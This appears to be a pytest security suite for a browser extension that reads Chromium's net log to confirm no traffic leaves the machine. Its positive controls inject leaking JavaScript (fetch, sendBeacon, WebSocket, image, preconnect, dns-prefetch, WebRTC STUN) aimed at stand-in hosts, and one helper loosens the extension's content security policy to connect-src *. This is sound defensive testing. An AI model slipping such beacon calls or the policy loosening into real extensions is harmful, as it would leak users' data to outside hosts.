"""Nothing leaves the machine: a whole session's traffic, from the browser's own net log.

The positive controls come first: copies of the extension that do leak, in every way a page, a
content script or a background can, must be caught by the same reading of the log.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tests import chromium
from tests.conftest import Extension, Launch
from tests.popup import FLAG
from tests.security import netlog
from tests.security.session import live_a_session

# A way out, and the code that takes it. Hosts differ, so that each is seen to be caught.
FROM_CONTENT = {
    "fetch": "fetch('https://fetch.example/x', {mode: 'no-cors'}).catch(() => 0);",
    "image": "new Image().src = 'https://image.example/x.png';",
    "socket": "new WebSocket('wss://socket.example/x');",
    "beacon": "navigator.sendBeacon('https://beacon.example/x', 'text');",
    "address": "fetch('http://192.0.2.7/x', {mode: 'no-cors'}).catch(() => 0);",
}
# These do not name their host in the log once CUT_OFF has replaced it: one at a time.
NAMELESS = {
    "preconnect": """addEventListener('DOMContentLoaded', () => document.head.append(
        Object.assign(document.createElement('link'),
        {rel: 'preconnect', href: 'https://preconnect.example'})));""",
    "prefetch": """addEventListener('DOMContentLoaded', () => document.head.append(
        Object.assign(document.createElement('link'),
        {rel: 'dns-prefetch', href: 'https://prefetch.example'})));""",
    "webrtc": """{
        const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.example:3478'}]});
        peer.createDataChannel('x');
        peer.onicegatheringstatechange = () => {
          if (peer.iceGatheringState === 'complete') document.documentElement.id = 'gathered';
        };
        peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        }""",
}
SUBTLE = {"lookup", "preconnect", "datagrams"}
FROM_BACKGROUND = "fetch('https://background.example/x').catch(() => 0);"


def copy_of(built: Path, folder: Path) -> Path:
    """The extension without its heavy parts: a leak needs none of them."""
    heavy = shutil.ignore_patterns("models", "vendor", "wheels", "snapshot.bin.gz")
    return Path(shutil.copytree(built, folder, ignore=heavy))


def append(path: Path, code: str) -> None:
    path.write_text(path.read_text() + "\n" + code)


def loosen(extension: Path) -> None:
    """Let the extension's own pages speak to any host."""
    manifest = json.loads((extension / "manifest.json").read_text())
    policy = manifest["content_security_policy"]
    policy["extension_pages"] = policy["extension_pages"].replace(
        "connect-src 'self'", "connect-src *"
    )
    (extension / "manifest.json").write_text(json.dumps(manifest))


def foreign_contacts(
    launch: Launch, extension: Path, log: Path, url: str, until: str = "html"
) -> list[netlog.Contact]:
    """Visit a page with a (patched) extension until `until` is there, quit, and read the log."""
    flags = (f"--log-net-log={log}", "--net-log-capture-mode=Everything", netlog.CUT_OFF)
    with launch(extension=extension, more_flags=flags) as context:
        chromium.extension_id(context)  # its background has run
        page = context.pages[0]
        page.goto(url)
        page.locator("textarea").first.click()
        page.locator(until).wait_for(state="attached")
        # What was asked of the network process before this request is in the log before it.
        page.evaluate("fetch(location.href).then((answer) => answer.text())")
    return netlog.foreign(netlog.contacts(log))


def test_control_leaks_of_a_content_script_are_caught(
    launch: Launch, built: Path, serve_pages: str, tmp_path: Path
) -> None:
    leaky = copy_of(built, tmp_path / "leaky")
    append(leaky / "content/main.js", "\n".join(FROM_CONTENT.values()))
    found = foreign_contacts(launch, leaky, tmp_path / "net.json", f"{serve_pages}/demo.html")
    hosts = {contact.host for contact in found}
    expected = {f"{way}.example" for way in FROM_CONTENT if way != "address"} | {"192.0.2.7"}
    assert hosts >= expected


@pytest.mark.parametrize("way", NAMELESS)
def test_control_leaks_without_a_request_are_caught(
    way: str, launch: Launch, built: Path, serve_pages: str, tmp_path: Path
) -> None:
    leaky = copy_of(built, tmp_path / "leaky")
    append(leaky / "content/main.js", NAMELESS[way])
    until = "html#gathered" if way == "webrtc" else "html"
    url = f"{serve_pages}/demo.html"
    found = foreign_contacts(launch, leaky, tmp_path / "net.json", url, until)
    assert [contact for contact in found if contact.kind in SUBTLE]


def test_control_a_leak_of_the_background_is_caught_once_the_policy_allows_it(
    launch: Launch, built: Path, serve_pages: str, tmp_path: Path
) -> None:
    leaky = copy_of(built, tmp_path / "leaky")
    append(leaky / "background/main.js", FROM_BACKGROUND)
    loosen(leaky)
    found = foreign_contacts(launch, leaky, tmp_path / "net.json", f"{serve_pages}/demo.html")
    assert {contact.host for contact in found} == {"background.example"}


def test_the_policy_alone_keeps_the_background_in(
    launch: Launch, built: Path, serve_pages: str, tmp_path: Path
) -> None:
    leaky = copy_of(built, tmp_path / "leaky")
    append(leaky / "background/main.js", FROM_BACKGROUND)
    assert not foreign_contacts(launch, leaky, tmp_path / "net.json", f"{serve_pages}/demo.html")


def test_a_whole_session_reaches_no_host(
    launch: Launch, built: Path, serve_pages: str, tmp_path: Path
) -> None:
    log = tmp_path / "net.json"
    flags = (f"--log-net-log={log}", "--net-log-capture-mode=Everything", netlog.CUT_OFF, FLAG)
    with launch(extension=built, more_flags=flags) as context:
        extension = Extension(context, chromium.extension_id(context))
        live_a_session(extension, serve_pages)
    found = netlog.contacts(log)
    assert any(contact.target == f"{serve_pages}/demo.html" for contact in found), "log is empty"
    assert netlog.foreign(found) == []
